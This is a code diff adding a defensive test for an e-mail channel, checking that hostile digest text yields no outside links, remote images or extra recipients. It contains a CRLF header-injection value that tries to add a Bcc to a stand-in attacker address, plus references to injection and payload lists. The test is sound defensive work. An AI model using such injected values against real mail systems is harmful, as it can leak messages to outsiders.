@@ -1,12 +1,14 @@
 import { readdirSync } from "node:fs";
 import { fileURLToPath } from "node:url";
 import { afterEach, describe, expect, test } from "vitest";
+import { createEmailChannel } from "../../src/channels/email/index.ts";
 import { channelKinds } from "../../src/channels/index.ts";
 import type { Handler } from "../../src/core/channel.ts";
 import type { Reply } from "../../src/core/reply.ts";
 import { openSlack } from "../channels/slack/world.ts";
 import { openTeamsWorld } from "../channels/teams/world.ts";
 import { seededRandom } from "../kit/random.ts";
+import { startFakeSmtp } from "../kit/smtp/index.ts";
 import { GROUP } from "../kit/teams/index.ts";
 import { openMcp } from "../mcp/world.ts";
 import { broken } from "./invariants.ts";
@@ -162,6 +164,46 @@ describe("Teams", () => {
   }, 60_000);
 });
 
+describe("E-mail", () => {
+  test("has no link, no picture from elsewhere and no other recipient, whatever a digest's parts say", async () => {
+    const { world } = await hostileHouse(61);
+    const smtp = await startFakeSmtp();
+    opened.push(smtp);
+    const channel = createEmailChannel(
+      { SMTP_URL: smtp.url, MAIL_FROM: "Firstmate <bot@example.com>", MAIL_ALLOWED: "example.com" },
+      {
+        renderPng: async () => Buffer.from("png"),
+        keepPlace: async () => {},
+        placeOf: async () => null,
+        now: () => new Date(),
+        onFault: () => {},
+      },
+    );
+    const words = [...INJECTIONS, ...PAYLOADS.filter((one) => typeof one === "string"), "**x\r\nBcc: eve@evil.attacker.example**"];
+    for (const [i, text] of words.entries()) {
+      const columns = [{ label: text, type: "text" as const }];
+      const blocks: Reply["blocks"] = [
+        { type: "table", title: text, columns, rows: [[text]] },
+        { type: "chart", title: text, spec: {}, alt: text },
+        { type: "kpis", items: [{ label: text, value: text, change: text }] },
+      ];
+      const receipts = [{ id: "r", source: text, query: text, fetchedAt: new Date(), status: "live" as const }];
+      expect(await channel.send("email:finance@example.com", { text, blocks, receipts, notice: text, final: true }, `${i}`)).toMatchObject({
+        state: "sent",
+      });
+    }
+
+    const seen = smtp.mails.map(({ headers, html, text }) =>
+      [html, ...[...headers.values(), text].map((plain) => plain.replaceAll("<", "\u2039"))].join("\n"),
+    );
+    expect(seen).toHaveLength(words.length);
+    expect(check(world, "email", seen)).toEqual([]);
+    expect(smtp.mails.flatMap(({ to }) => to).filter((to) => to !== "finance@example.com")).toEqual([]);
+    expect(smtp.mails.filter(({ headers }) => headers.has("bcc") || headers.has("cc"))).toEqual([]);
+    expect(smtp.violations).toEqual([]);
+  }, 60_000);
+});
+
 describe("MCP", () => {
   test("gives a hostile client no write, no vault and no words of an error, whatever it sends", async () => {
     const { world } = await hostileHouse(5);
@@ -192,12 +234,12 @@ describe("every place people read", () => {
   test("is in this suite: a new channel joins here", () => {
     const folder = fileURLToPath(new URL("../../src/channels", import.meta.url));
     const folders = readdirSync(folder, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? [entry.name] : []));
-    const here = ["slack", "teams", "console", "terminal"];
+    const here = ["slack", "teams", "email", "console", "terminal"];
 
     expect(folders.toSorted()).toEqual(here.toSorted());
     expect(channelKinds.map(({ name }) => name).filter((name) => !here.includes(name))).toEqual([]);
     // "page" is the console's.
-    expect(Object.keys(SINKS).toSorted()).toEqual(["csv", "page", "rest", "terminal"]);
+    expect(Object.keys(SINKS).toSorted()).toEqual(["csv", "email", "page", "rest", "terminal"]);
   });
 
   test("shows the same to the model of one person whatever another's model has said before", async () => {
